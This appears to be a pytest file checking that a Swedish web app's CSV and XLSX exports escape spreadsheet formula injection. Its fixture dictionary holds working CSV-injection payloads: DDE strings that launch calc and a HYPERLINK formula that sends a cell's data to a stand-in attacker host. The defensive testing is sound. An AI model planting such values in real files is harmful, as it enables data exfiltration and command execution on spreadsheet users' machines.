"""Every CSV and XLSX export goes through lotsen.exports: no cell ever runs as a formula."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook

from lotsen import exports
from lotsen.accounts.models import Role
from lotsen.extensions import db
from lotsen.programme.queries import all_areas
from lotsen.reports.exports import EXPORTS as REPORT_EXPORTS
from lotsen.strategy import services as strategy
from lotsen.strategy.exports import EXPORTS as STRATEGY_EXPORTS
from lotsen.visits import services as visits
from tests.companies.helpers import make_company
from tests.factories import CategoryFactory, DepartmentFactory, UserFactory
from tests.reports.helpers import case_with_figures

HYPERLINK = '=HYPERLINK("https://angripare.example/?d="&A1,"Klicka här")'
POISON = {
    "company": HYPERLINK,
    "category": "+CMD|' /C calc'!A0",
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "area": "-2+3+cmd|' /C calc'!A0",
    "follow_up": "=1+1",
    "owner": '\t=HYPERLINK("https://angripare.example")',
}
PERIOD = "date_from=2020-01-01&date_to=2030-12-31"


def poisoned_data():
    strategy.load_demo_strategy()
    area = all_areas()[0]
    area.name = POISON["area"]
    db.session.commit()
    now = datetime.now(UTC)
    company = make_company(name=POISON["company"], size_class="20-49")
    made = visits.save_visit(
        None,
        None,
        visits.VisitData(
            company=company,
            starts_at=now - timedelta(days=20),
            purpose="Besök",
            needs=["premises"],
            employees_now=30,
        ),
    )
    visits.add_topic(None, made, "Lokalbehov", [area], [])
    owner = UserFactory(name=POISON["owner"])
    visits.add_follow_up(None, made, POISON["follow_up"], owner, now.date() - timedelta(days=5))
    db.session.commit()
    category = CategoryFactory(name=POISON["category"])
    department = DepartmentFactory(name=POISON["department"])
    case_with_figures(
        category,
        now - timedelta(days=3),
        attributes={"department_id": department.id, "company_name": POISON["company"]},
    )


def csv_cells(response) -> list[str]:
    text = response.get_data(as_text=True).lstrip("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def export_urls() -> list[str]:
    urls = ["/foretag/export.csv", "/foretag/export.xlsx"]
    for name in REPORT_EXPORTS:
        urls += [f"/rapporter/export/{name}.{fmt}?{PERIOD}" for fmt in ("csv", "xlsx")]
    for name in STRATEGY_EXPORTS:
        urls += [f"/strategi/oversikt/export/{name}.{fmt}?{PERIOD}" for fmt in ("csv", "xlsx")]
    return urls


# Where each poisoned name must show up (as text), so the test proves it went through.
EXPECTED = {
    "/foretag/export": ["company"],
    "/rapporter/export/avdelningar": ["department"],
    "/rapporter/export/kategorier": ["category"],
    "/rapporter/export/arenden": ["category", "department"],
    "/strategi/oversikt/export/omraden": ["area"],
    "/strategi/oversikt/export/kategorier": ["category"],
    "/strategi/oversikt/export/uppfoljningar": ["follow_up", "owner", "company"],
}


def test_every_export_route_writes_poisoned_names_as_text(client, login):
    poisoned_data()
    login(Role.ADMIN, Role.MANAGER)
    seen = set()
    for url in export_urls():
        response = client.get(url)
        assert response.status_code == 200, url
        if ".csv" in url:
            values = csv_cells(response)
        else:
            cells = xlsx_cells(response)
            assert not [c.value for c in cells if c.data_type == "f"], url
            values = [c.value for c in cells if isinstance(c.value, str)]
        for value in values:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (url, value)
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), (
                url,
                value,
            )
        for key in EXPECTED.get(url.split(".")[0], []):
            assert "'" + POISON[key] in values, (url, key)
            seen.add(key)
    assert seen == set(POISON)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+46 31 123", "'+46 31 123"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Café Ölstugan", "Café Ölstugan"),
        (-30, -30),
        (None, None),
    ],
)
def test_formula_guard(value, written):
    assert exports.safe_cell(value) == written


def test_xlsx_stops_at_the_row_cap_and_says_so(app):
    rows = ([f"rad {n}"] for n in range(10))
    with app.test_request_context(), exports.xlsx_file(rows, "Test", max_rows=4) as handle:
        sheet = load_workbook(handle).active
        values = [row[0] for row in sheet.iter_rows(values_only=True)]
    assert values == ["rad 0", "rad 1", "rad 2", "Exporten är avkortad efter 3 rader."]


def test_csv_is_streamed_in_chunks():
    chunks = list(exports.csv_chunks([n] for n in range(exports.CSV_CHUNK_ROWS * 2 + 1)))
    assert len(chunks) == 3
    assert chunks[0].startswith("\ufeff0\r\n")
